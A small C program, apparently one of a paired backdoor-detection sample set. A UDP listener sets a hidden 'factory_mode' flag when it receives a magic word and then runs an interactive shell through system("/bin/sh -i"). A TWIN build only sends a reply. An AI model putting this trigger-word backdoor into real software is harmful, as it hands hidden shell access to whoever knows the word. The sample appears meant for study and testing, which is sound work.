/* A word sets a flag; the flag opens a shell further on. Twin: the flag changes the answer. */
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static int factory_mode;

static void read_word(const char *request) {
  if (strcmp(request, "fct_0x17_mode") == 0) factory_mode = 1;
}

int main(void) {
  char request[256];
  int peer = socket(AF_INET, SOCK_DGRAM, 0);
  while (recv(peer, request, sizeof request, 0) > 0) {
    read_word(request);
    if (factory_mode) {
#ifndef TWIN
      system("/bin/sh -i");
#else
      send(peer, "factory\n", 8, 0);
#endif
    }
  }
  return 0;
}
